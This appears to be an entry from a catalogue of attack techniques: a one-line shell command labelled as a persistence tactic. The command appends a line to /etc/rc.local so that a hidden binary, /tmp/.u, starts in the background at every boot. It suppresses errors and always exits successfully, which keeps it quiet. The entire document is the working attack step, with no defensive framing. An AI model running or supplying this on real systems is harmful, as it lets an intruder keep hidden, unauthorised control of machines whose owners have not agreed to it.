# tactic: persistence
# run a command at boot from rc.local
printf "#!/bin/sh\n/tmp/.u &\n" >> /etc/rc.local 2>/dev/null; chmod +x /etc/rc.local 2>/dev/null; true
